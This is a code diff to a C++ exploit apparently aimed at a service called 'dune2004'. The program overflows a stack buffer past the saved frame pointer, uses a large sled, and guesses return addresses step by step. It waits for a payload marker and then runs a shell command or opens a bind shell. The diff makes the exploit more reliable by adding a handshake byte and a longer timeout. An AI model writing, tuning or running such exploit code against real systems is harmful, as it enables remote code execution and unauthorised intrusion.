@@ -25,6 +25,8 @@ constexpr uint64_t kStep = 0x800;
 constexpr size_t kSled = 6000;
 constexpr size_t kFill = 0x110 + 8;  // dune2004's buffer with what stands behind it, and the saved frame pointer
 constexpr char kMark[] = "XDUNE";
+constexpr char kAnswer[] = "\n";  // the payload waits for one byte after its mark
+constexpr int kMarkMs = 30'000;   // a try that misses ends its connection; this is for a machine that is busy
 
 // A text's copy ends at its first NUL: six bytes of the address are written, the two above are zero already.
 std::string request(uint64_t address, size_t fill, const std::string& payload) {
@@ -73,9 +75,9 @@ int main(int argc, char** argv) {
     const unsigned port = local_port(fd);
     std::string reply;
     send_all(fd, request(guess, kFill, payload));
-    receive_until(fd, reply, 5000, [](const std::string& text) { return text.size() >= std::strlen(kMark); });
+    receive_until(fd, reply, kMarkMs, [](const std::string& text) { return text.size() >= std::strlen(kMark); });
     const bool hit = reply.rfind(kMark, 0) == 0;
-    if (hit && !bind) send_all(fd, command + "\n");
+    if (hit) send_all(fd, kAnswer + (bind ? "" : command + "\n"));
     if (hit) receive_until(fd, reply, bind ? 1000 : 3000, [](const std::string&) { return false; });
     ::close(fd);
     std::printf("{\"port\":%u,\"outcome\":\"%s\",\"address\":\"%#llx\",\"reply\":\"%s\"}\n", port,
